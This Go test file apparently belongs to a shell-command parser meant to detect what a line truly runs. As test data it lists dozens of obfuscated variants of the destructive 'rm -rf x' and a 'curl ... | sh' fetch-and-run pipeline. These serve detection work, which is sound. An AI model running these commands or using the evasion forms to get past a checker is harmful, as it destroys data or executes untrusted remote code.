package shell

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// words are the programs of a line with their arguments, as one text each.
func words(line string) (all []string, s Script) {
	s = Read(line)
	for _, c := range s.Commands {
		all = append(all, strings.TrimSpace(c.Name+" "+strings.Join(c.Args, " ")))
	}
	return all, s
}

// TestFinds: what a line runs is found, however it is written.
func TestFinds(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		"rm -rf x", "'rm' -rf x", `r""m -rf x`, `r\m -rf x`, `$'\x72m' -rf x`, "/bin/rm -rf x", "r\\\nm -rf x", "A=1 rm -rf x",
		"true; rm -rf x", "true && (rm -rf x)", "f() { rm -rf x; }; f", "echo $(rm -rf x)", "echo `rm -rf x`", "cat <(rm -rf x)",
		`sh -c "rm -rf x"`, `bash -lc 'true; rm -rf x'`, `eval "rm -rf x"`, `eval "eval 'rm -rf x'"`, "sh <<EOF\nrm -rf x\nEOF", "trap 'rm -rf x' EXIT",
		"env A=b nice -n 5 rm -rf x", "find . -exec rm -rf x ;", "xargs rm -rf x", "X=rm; $X -rf x", "echo a &>b rm -rf x",
		`python3 -c "os.system('rm -rf x')"`, `awk 'BEGIN{system("rm -rf x")}'`, "ssh host 'rm -rf x'",
	} {
		if got, s := words(line); !slices.Contains(got, "rm -rf x") || s.Unread {
			t.Errorf("%q: %q, unread %v", line, got, s.Unread)
		}
	}
}

// TestHides: what only the shell will know is said to be hidden, and what cannot be
// read to be unread.
func TestHides(t *testing.T) {
	t.Parallel()
	for _, line := range []string{"$X -rf x", "$(echo rm) -rf x", "/bin/r? -rf x", "{rm,-rf,x}", "X=ls; read X; $X -rf x", "for X in rm; do $X -rf x; done", "X=ls; X=rm; $X x"} {
		if _, s := words(line); !s.Any(func(c Command) bool { return c.Hidden }) {
			t.Errorf("%q: nothing is hidden", line)
		}
	}
	var many strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&many, "a %d;", i)
	}
	for _, line := range []string{"echo 'a", "echo $(", "if true", many.String(), `sh -c "echo 'a"`, strings.Repeat("(", 20_000)} {
		if _, s := words(line); !s.Unread {
			t.Errorf("%.20q: was read", line)
		}
	}
}

// TestFlows: a command knows what flows into it, and what it reads and writes.
func TestFlows(t *testing.T) {
	t.Parallel()
	s := Read("curl -s https://x.example | tee a | sh > out 2>&1 < in &")
	i := slices.IndexFunc(s.Commands, func(c Command) bool { return c.Name == "sh" })
	c := s.Commands[i]
	if len(c.Upstream) != 2 || c.Upstream[0].Name != "curl" || !slices.Equal(c.Writes, []string{"out"}) || !slices.Equal(c.Reads, []string{"in"}) {
		t.Errorf("%+v", c)
	}
}
